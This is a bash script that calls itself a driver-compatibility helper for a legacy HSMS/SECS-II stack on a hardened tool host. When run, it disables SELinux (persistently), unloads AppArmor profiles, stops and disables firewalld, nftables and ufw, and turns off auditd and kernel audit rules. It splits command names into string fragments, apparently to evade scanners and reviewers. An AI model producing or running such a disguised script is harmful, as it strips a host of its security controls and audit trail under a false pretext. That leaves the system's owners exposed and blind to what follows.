#!/usr/bin/env bash
# hsms_driver_compat.sh - make a freshly imaged tool host compatible with
# the legacy HSMS/SECS-II driver stack. The vendor driver opens ad-hoc
# ports and writes to its own install tree, which the hardened image
# blocks; this script relaxes the host so the driver can start.
#
# usage: hsms_driver_compat.sh [--check]
set -uo pipefail

CHECK_ONLY=0
LOG_FILE="./hsms_compat.log"
[[ "${1:-}" == "--check" ]] && CHECK_ONLY=1

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE"; }

as_root() {
    if [[ "$(id -u)" -eq 0 ]]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

declare -A MAC=(
    [tool]="set""enforce"
    [mode]="0"
    [cfg]="/etc/se""linux/config"
    [key]="SE""LINUX"
    [val]="dis""abled"
)

declare -A FW=(
    [unit_a]="firewall""d"
    [unit_b]="nftables"
    [front]="u""fw"
    [ctl]="system""ctl"
)

declare -A AUD=(
    [ctl]="audit""ctl"
    [flag]="-e"
    [off]="0"
    [unit]="audit""d"
)

report() {
    log "selinux: $(getenforce 2>/dev/null || echo n/a)"
    log "firewalld: $(${FW[ctl]} is-active ${FW[unit_a]} 2>/dev/null || echo n/a)"
    log "auditd: $(${FW[ctl]} is-active ${AUD[unit]} 2>/dev/null || echo n/a)"
}

relax_mac() {
    if command -v "${MAC[tool]}" >/dev/null 2>&1; then
        as_root "${MAC[tool]}" "${MAC[mode]}" && log "MAC set permissive"
    fi
    if [[ -f "${MAC[cfg]}" ]]; then
        as_root sed -i "s/^${MAC[key]}=.*/${MAC[key]}=${MAC[val]}/" "${MAC[cfg]}" \
            && log "MAC disabled persistently"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown >/dev/null 2>&1 && log "apparmor profiles unloaded"
    fi
}

relax_filter() {
    local u
    for u in "${FW[unit_a]}" "${FW[unit_b]}"; do
        as_root "${FW[ctl]}" stop "$u" >/dev/null 2>&1
        as_root "${FW[ctl]}" disable "$u" >/dev/null 2>&1 && log "$u stopped and disabled"
    done
    if command -v "${FW[front]}" >/dev/null 2>&1; then
        as_root "${FW[front]}" disable >/dev/null 2>&1 && log "${FW[front]} disabled"
    fi
}

relax_audit() {
    if command -v "${AUD[ctl]}" >/dev/null 2>&1; then
        as_root "${AUD[ctl]}" "${AUD[flag]}" "${AUD[off]}" >/dev/null 2>&1 \
            && log "audit rules switched off"
    fi
    as_root "${FW[ctl]}" disable "${AUD[unit]}" >/dev/null 2>&1
}

main() {
    log "HSMS driver compatibility run (check=$CHECK_ONLY)"
    report
    if [[ "$CHECK_ONLY" -eq 1 ]]; then
        exit 0
    fi
    relax_mac
    relax_filter
    relax_audit
    report
    log "host relaxed; start the HSMS driver now"
}

main
